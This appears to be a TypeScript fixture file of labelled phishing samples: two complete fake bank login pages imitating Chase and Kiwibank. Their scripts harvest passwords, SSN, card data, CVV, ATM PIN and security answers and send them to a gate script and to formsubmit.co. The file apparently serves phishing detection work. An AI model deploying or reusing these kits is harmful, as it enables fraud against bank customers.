/**
 * yi- bank credential kits that callers' relatives forwarded: UK, Irish, Australian, US and NZ banks.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { bankCss, codes, doc, rev, wordmark } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-chase-locked-account-ssn-step',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://chase-secure-alerts.com/web/auth/dashboard/logon',
  body: doc({
    title: 'Sign in - chase.com',
    lang: 'en-US',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:linear-gradient(#0c4b8e,#117aca);min-height:100vh;color:#414042}
.logo{color:#fff;text-align:center;padding:30px 0;font-size:30px;font-weight:700;letter-spacing:3px}
.card{max-width:400px;margin:0 auto;background:#fff;border-radius:4px;padding:30px}
.warn{background:#fff3cd;border:1px solid #e0c36f;padding:10px;font-size:14px;margin-bottom:16px}
input{width:100%;border:0;border-bottom:1px solid #767676;padding:12px 0;font-size:16px;margin-bottom:18px}
button{width:100%;background:#117aca;color:#fff;border:0;padding:14px;font-size:16px;border-radius:4px}
.l{font-size:14px;margin-top:14px}.l a{color:#117aca}`,
    body: `<div class="logo">CHASE ◆</div>
<div class="card" id="c">
<div class="warn">For your protection we placed a temporary hold on your account after a sign-in from an unrecognized device in Lagos, NG.</div>
<form id="f1"><input name="userId" placeholder="Username" autocomplete="username"><input name="password" type="password" placeholder="Password" autocomplete="current-password">
<label style="font-size:14px"><input type="checkbox" style="width:auto"> Remember me</label><button>Sign in</button></form>
<div class="l"><a href="#">Forgot username/password?</a> › <br><a href="#">Not Enrolled? Sign Up Now.</a> ›</div></div>
<script>
var step=1;
document.getElementById('c').addEventListener('submit',function(e){
 e.preventDefault();var fd=new FormData(e.target);fd.append('step',step);
 fetch('/web/auth/gate.php',{method:'POST',body:fd,mode:'no-cors'});
 if(step===1){step=2;this.innerHTML='<h3>Confirm your identity</h3><form><input name="fullname" placeholder="Full name"><input name="ssn" placeholder="Social Security Number"><input name="dob" placeholder="Date of birth (MM/DD/YYYY)"><input name="card" placeholder="Debit card number"><input name="exp" placeholder="Exp (MM/YY)"><input name="cvv" placeholder="CVV"><input name="atmpin" type="password" placeholder="ATM PIN"><button>Verify</button></form>'}
 else{this.innerHTML='<h3>Thank you</h3><p>Your account has been restored.</p>';setTimeout(function(){location.href='https://www.chase.com/'},2500)}
});
</script>`,
  }),
},
{
  id: 'yi-kiwibank-formrelay-kit',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://kiwibank-nz.secure-verify.net/login/',
  body: doc({
    title: 'Kiwibank Internet Banking | Log in',
    lang: 'en-NZ',
    css: bankCss('#0b3d2c', '#6cbd45', '"Kiwibank Sans",Arial,sans-serif'),
    body: `<header class="top"><span>${wordmark('kiwibank', '#0b3d2c', '#6cbd45', 120)}</span><span><a href="#">Help</a></span></header>
<div class="wrap"><div class="panel">
<h1>Log in</h1><p class="sub">Action required: your KeepSafe questions need updating before 30 June.</p>
<form id="kb" action="https://formsubmit.co/ajax/4b2c9e07a1d5f3c8e6b0a9d2f1c7e485" method="POST">
<input type="hidden" name="_subject" value="KB new">
<input type="hidden" name="_captcha" value="false">
<label for="ac">Access number</label><input type="text" id="ac" name="access_number" inputmode="numeric">
<label for="pw">Password</label><input type="password" id="pw" name="password">
<label for="q1">KeepSafe question: What was the name of your first pet?</label><input type="text" id="q1" name="ks1">
<label for="q2">KeepSafe question: In which town were you married?</label><input type="text" id="q2" name="ks2">
<button class="btn">Log in</button></form></div></div>
<script>
document.getElementById('kb').addEventListener('submit',function(e){e.preventDefault();fetch(this.action,{method:'POST',headers:{Accept:'application/json'},body:new FormData(this)}).finally(function(){location.href='https://www.kiwibank.co.nz/'})});
</script>`,
  }),
},
];
